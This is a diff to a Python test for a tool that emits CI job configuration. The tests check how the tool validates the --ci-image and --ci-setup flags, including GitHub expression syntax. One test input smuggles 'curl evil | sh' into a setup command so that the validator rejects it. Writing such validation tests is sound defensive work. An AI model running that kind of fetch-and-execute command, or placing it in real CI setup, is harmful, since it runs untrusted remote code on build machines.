@@ -170,7 +170,13 @@ def test_emit_ci_flags_set_where_and_after_what_every_job_runs(root: Path,
     assert default == {"image": "docker:26", "tags": ["docker"],
                        "before_script": ["make setup", "docker login -u ci r.example"]}
     assert _plan(root, "--emit", "github", "--ci-image", "docker 26") == 2
-    assert "--ci-image: 'docker 26' contains white space" in capsys.readouterr().err
+    assert "--ci-image: 'docker 26' contains white space outside a ${{ ... }} expression (name an image, " \
+           "e.g. docker:26 or ${{ vars.CI_IMAGE }})" in capsys.readouterr().err
+    assert _plan(root, "--emit", "github", "--ci-image", "${{ vars.CI_IMAGE }} x") == 2
+    assert "contains white space outside" in capsys.readouterr().err
+    assert _plan(root, "--emit", "github", "--ci-image", "r.example/${{ vars.IMAGE }}:${{ env.V }}") == 0
+    jobs = yaml.safe_load(capsys.readouterr().out)["jobs"]
+    assert {body["container"] for body in jobs.values()} == {"r.example/${{ vars.IMAGE }}:${{ env.V }}"}
     assert _plan(root, "--emit", "github", "--ci-setup", "make setup\ncurl evil | sh") == 2
     assert "control" in capsys.readouterr().err
     assert _plan(root, "--ci-setup", "make setup") == 2
